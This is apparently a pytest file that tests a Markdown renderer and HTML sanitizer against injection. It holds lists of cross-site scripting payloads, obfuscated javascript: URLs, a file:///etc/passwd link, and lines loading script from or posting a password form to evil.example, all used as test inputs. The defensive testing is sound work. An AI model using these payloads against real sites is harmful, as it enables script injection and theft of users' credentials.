"""Nothing written in a page may act on whoever reads it."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.engines.markdown import MarkdownRenderer
from app.engines.markdown.cleaning import clean

SHA = "ab" * 32
renderer = MarkdownRenderer()
TAGS = set(
    "p br hr h2 h3 h4 h5 h6 ul ol li blockquote pre code em strong s sup a span img audio figure "
    "figcaption table thead tbody tr th td section div details summary fieldset legend label "
    "input".split(" ")
)
ATTRIBUTES = set(
    "class id href rel title src alt loading decoding controls preload role tabindex aria-label "
    "scope start data-wiki data-bare data-label data-list data-view data-title data-size "
    "data-order data-quiz data-right type name value checked disabled".split(" ")
)
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    '" style="position:fixed" data-quiz="',
    "<iframe srcdoc='<b>x'></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<a href=javascript:alert(1)>x</a>",
    "</textarea></title></style></p></div><script>1</script>",
    "<!--><script>alert(1)</script>-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=1>",
    "<noscript><p title='</noscript><img src=x onerror=1>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\u0000<b onclick=1>",
    "]]><x xmlns='a'>",
]
URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#x0a;script:alert(1)",
    "java&Tab;script:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "\u0001javascript:alert(1)",
    " javascript:alert(1)",
    "vbscript:x",
    "data:text/html,<script>1</script>",
    "data:image/png;base64,AAAA",
    "data:image/svg+xml,<svg onload=1>",
    "file:///etc/passwd",
    "blob:x",
    "view-source:x",
    "feed:javascript:1",
]
PLACES = [
    "{x}",
    "# {x}",
    "> - {x}",
    "`{x}`",
    "```{x}\n{x}\n```",
    "[{x}](https://a.example)",
    "[a](<{x}>)",
    '[a](https://a.example "{x}")',
    "[a](https://a.example '{x}')",
    "[a][r]\n\n[r]: https://a.example '{x}'",
    "![{x}](media/" + SHA + '.jpg "{x}")',
    "![{x}](media/" + SHA + ".mp3)",
    "![{x}](https://a.example/{x})",
    "[[{x}]]",
    "[[place/x|{x}]]",
    "[[{x}|{x}]]",
    "https://a.example/{x}",
    "<https://a.example/{x}>",
    "| {x} |\n|---|\n| {x} |",
    "a[^{x}]\n\n[^{x}]: {x}",
    ":::note {x}\n{x}\n:::",
    ":::steps\n1. {x}\n:::",
    ":::{x}\n{x}\n:::",
    ":::autre {x}\n{x}\n:::",
    ':::list kind=place title="{x}"\n:::',
    ":::list kind={x}\n:::",
    ":::list {x}=place\n:::",
    ":::list kind=place view={x} order={x} size={x}\n:::",
    ":::quiz id={x}\n{x}\n\n- [x] {x}\n  > {x}\n:::",
    ':::quiz id="{x}"\n{x}\n\n- [x] {x}\n\n  {x}\n:::',
    "- [ ] {x}",
]


class Reader(HTMLParser):
    """Reads HTML as tags and complains of any that the renderer may not write."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.ids: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            self._check(tag, name, (value or ""))

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}-->")

    def _check(self, tag: str, name: str, value: str) -> None:
        if name not in ATTRIBUTES:
            self.wrong.append(f"{tag} {name}={value}")
        scheme = value.strip("\x00\x01 \t\n").split(":")[0].lower()
        if name == "href" and ":" in value and scheme not in ("http", "https", "mailto"):
            before_colon = value.split(":")[0]
            if not any(sign in before_colon for sign in "/?#"):
                self.wrong.append(f"{tag} href={value}")
        if name == "src" and not value.startswith(f"/media/{SHA}."):
            self.wrong.append(f"{tag} src={value}")
        if name == "id":
            self.ids.append(value)
            if not value.startswith(("s-", "n-", "r-")):
                self.wrong.append(f"{tag} id={value}")


def complaints(html: str) -> list[str]:
    read = Reader(html)
    doubles = [i for i in set(read.ids) if read.ids.count(i) > 1]
    return read.wrong + doubles


@pytest.mark.parametrize("place", PLACES)
def test_nothing_written_anywhere_becomes_a_tag_or_a_handler(place: str) -> None:
    for attack in ATTACKS + URLS:
        body = place.replace("{x}", attack)
        assert complaints(renderer.render(body, kind="page", lang="fr").html) == [], body
        assert complaints(renderer.render_field(body)) == [], body


@pytest.mark.parametrize("place", PLACES)
def test_the_parser_alone_writes_no_tag_of_an_author(
    place: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("app.engines.markdown.renderer.clean", str)
    for attack in ATTACKS + URLS:
        body = place.replace("{x}", attack)
        assert complaints(renderer.render(body, kind="page", lang="fr").html) == [], body


@pytest.mark.parametrize("url", URLS)
def test_an_address_with_another_scheme_is_no_link(url: str) -> None:
    for body in (f"[a](<{url}>)", f"<{url}>", f"[a]\n\n[a]: <{url}>", f"![a](<{url}>)"):
        page = renderer.render(body, kind="page", lang="fr")
        assert complaints(page.html) == [], body
        assert page.outline.urls == ()


MARKS = st.sampled_from(
    [*ATTACKS, *URLS, "[", "]", "](", ")", "![", "[[", "]]", "|", "\n", "\n\n", "- [x] ", "> ",
     ":::quiz ", ":::note ", ":::list title=", ":::",
     "`", "```", "*", "_", "<", ">", '"', "'", "&", "\\", "[^1]",
     "[^1]: ", "|-|", "# ", "x"]
)  # fmt: skip


@given(st.lists(MARKS, max_size=30).map("".join))
def test_no_mix_of_signs_gets_through(body: str) -> None:
    assert complaints(renderer.render(body, kind="page", lang="fr").html) == []


def test_the_cleaner_alone_stops_what_the_parser_would_let_through() -> None:
    for attack in ATTACKS:
        assert complaints(clean(attack)) == []


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ('<p id="contenu">x</p>', "<p>x</p>"),
        ('<h2 id="contenu">x</h2>', "<h2>x</h2>"),
        ('<input type="password" name="password">', "<input>"),
        ('<input type="radio" name="csrf">', '<input type="radio">'),
        ('<img src="https://a.example/x.png" alt="">', '<img alt="">'),
        ('<img src="/media/../admin" alt="">', '<img alt="">'),
        ('<div class="masthead notice" style="top:0">x</div>', '<div class="notice">x</div>'),
        ('<a href="javascript:1" target="_top" rel="opener">x</a>', "<a>x</a>"),
        ('<button formaction="/-/sign-out">x</button>', "x"),
    ],
)
def test_the_cleaner_keeps_only_what_is_ours(html: str, kept: str) -> None:
    assert clean(html) == kept


def test_the_cleaner_bears_deep_trees() -> None:
    assert complaints(clean("<div>" * 20_000 + "x")) == []


def test_the_cleaner_changes_nothing_of_an_honest_page() -> None:
    body = (
        f'# T\n\n[[A|b]] https://a.example ![x](media/{SHA}.jpg "y")\n\n'
        f'![x](media/{SHA}.jpg "y")\n\n'
        ":::note attention Gare\nz\n:::\n\n:::steps\n1. a\n:::\n\n:::list kind=place\n:::\n\n"
        ":::autre\nx\n:::\n\n"
        "|a|b|c|d|e|\n|-|:-:|-:|-|-|\n|1|2|3|4|5|\n\n- [x] v\n\n3. trois\n\n~~r~~[^1]\n\n"
        "[^1]: n\n\n"
        ":::quiz id=q\nx ?\n\n- [x] y\n  > z\n:::\n"
    )
    shown = renderer.render(body, kind="page", lang="fr").html
    assert clean(shown) == shown
    for sign in (
        "centre",
        "number",
        'start="3"',
        "<s>",
        "figcaption",
        "region",
        "data-view",
        "feedback",
        "task",
    ):
        assert sign in shown
